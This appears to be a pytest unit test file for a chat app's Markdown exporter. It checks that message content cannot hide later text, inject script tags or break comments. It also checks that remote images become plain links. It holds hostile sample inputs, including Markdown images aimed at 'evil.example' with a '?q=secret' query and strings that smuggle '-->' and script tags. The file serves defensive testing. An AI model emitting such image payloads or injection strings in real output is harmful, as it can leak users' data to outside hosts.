"""Chats as Markdown: each message ends where it ends, and what it is made of is read by people and machines."""

import json
import re

import msgspec
import pytest
from markdown_it import MarkdownIt

from desktop.chat.export.chat_markdown import chats_as_markdown
from desktop.chat.export.markdown_source import fenced, standing_alone
from desktop.conversation import Message, TextPart
from desktop.storage.whole_conversation import WholeConversation
from tests.unit.chat.export.chats import HOSTILE, LLAMA, PNG, SHA, answer, branched, source


def written(*wholes: WholeConversation, **files: bytes) -> str:
    heads = [whole.conversation for whole in wholes]
    return b"".join(chats_as_markdown(heads, wholes, source(**files))).decode()


def headings(text: str) -> list[str]:
    """The headings of the second level without their times, as any program reads them."""
    tokens = MarkdownIt("commonmark").parse(text.split("\n---\n", 1)[1])
    found = [tokens[at + 1].content for at, token in enumerate(tokens) if token.tag == "h2" and token.nesting > 0]
    return [heading.partition(" (")[0] for heading in found]


def test_the_branch_shown_is_the_text_and_others_are_counted() -> None:
    text = written(branched(), **{SHA: PNG})
    assert headings(text) == ["You", "Llama 3.2", "You"]
    assert "3 other answers, not shown here" in text
    assert "1 other answer, not shown here" in text
    assert "> Let me **think**." in text
    assert f"![cat.png][{SHA}]" in text
    assert f"\n[{SHA}]: data:image/png;base64," in text
    assert "> Be kind." in text


def test_the_front_matter_names_the_models() -> None:
    front = written(answer("Yes.")).split("---\n")[1]
    lines = dict(line.split(": ", 1) for line in front.splitlines() if not line.startswith((" ", "models")))
    assert json.loads(lines["title"]) == "A title"
    assert json.loads(lines["digital_source_type"]).endswith("/trainedAlgorithmicMedia")
    assert json.loads(lines["exported"]) == "2025-12-01T08:00:00.000+00:00"
    assert '  - model: "llama"\n    model_name: "Llama 3.2"\n    file_sha256: "' in front


def test_each_answer_carries_a_comment_for_machines_and_a_line_for_people() -> None:
    text = written(answer("Yes."))
    (comment,) = re.findall(r"<!-- generated: (.*) -->", text)
    assert json.loads(comment)["attribution"] == "Built with Llama"
    assert "*Written by the language model Llama 3.2 · License Llama 3.2 · Built with Llama*" in text


@pytest.mark.parametrize(
    "text",
    [
        "```python\nprint(",
        "~~~~\nx\n~~~",
        "a\n\n    code",
        "<!-- never closed",
        "<details>\n<summary>x",
        "<script>\nfor",
        "<pre>\n\n```",
        "<!--\n```\n",
        "text\n\n<div hidden>",
        "<?php\n\n",
        "<![CDATA[\n\nx",
        "- item\n  ```\n  open",
        HOSTILE,
        "Setext\n---",
        "[ref]: <unclosed",
        "\\",
    ],
)
def test_nothing_hides_what_follows_it(text: str) -> None:
    exported = written(answer(text), answer(text))
    assert headings(exported).count("You") == 2
    assert exported.count("*Written by the language model Llama 3.2") == 2
    shown = "".join(token.content for token in MarkdownIt("commonmark").parse(exported) if token.type == "html_block")
    assert "<script" not in shown
    assert "<details" not in shown


@pytest.mark.parametrize(
    "text",
    [
        "Look: ![x](https://evil.example/?q=secret)",
        "![x][1]\n\n[1]: https://evil.example/i.png",
        "[![x](https://evil.example/1.png)](https://evil.example)",
        "| a |\n|---|\n| ![x](https://evil.example/1.png) |",
        "> - **![x](https://evil.example/1.png)**",
        "![a ![b](https://evil.example/1)](https://evil.example/2)",
        "# ![x](https://evil.example/1.png)",
    ],
)
def test_an_image_from_elsewhere_is_a_link_that_nobody_follows_by_opening_the_file(text: str) -> None:
    html = MarkdownIt("commonmark").enable("table").render(written(answer(text)))
    assert "<img" not in html
    assert 'href="https://evil.example' in html


def test_code_and_drawn_tags_stay_as_they_are() -> None:
    for text in ("`<b>` and <kbd>Ctrl</kbd>", "```html\n<p>\n```", "<https://example.org>", "a < b", "\\<b>"):
        assert standing_alone(text) == text
    assert standing_alone("List<int>") == "List\\<int>"


def test_a_block_of_code_is_fenced_whatever_it_holds() -> None:
    block = fenced("a\n````\nb")
    (token,) = MarkdownIt("commonmark").parse(block)
    assert token.content == "a\n````\nb\n"


def test_names_of_others_can_neither_end_a_comment_nor_a_line() -> None:
    evil = msgspec.structs.replace(LLAMA, name='--> <script>"\n# x', attribution="--><b>", id="-" * 7 + ">")
    whole = answer("Yes.", evil)
    whole = WholeConversation(msgspec.structs.replace(whole.conversation, title="a\n---\n# b\u202e"), whole.messages)
    text = written(whole)
    assert text.count("-->") == 1
    assert "\u202e" not in text
    assert [line for line in text.splitlines() if line.startswith("# ")] == ["# a --- \\# b\\\\u202e"]


def test_a_persons_words_are_there_as_typed() -> None:
    question = Message("q", "c", None, "user", (TextPart("* one\n* two\n\n    code"),))
    whole = WholeConversation(msgspec.structs.replace(answer("x").conversation, leaf_id="q"), (question,))
    assert "* one\n* two\n\n    code" in written(whole)
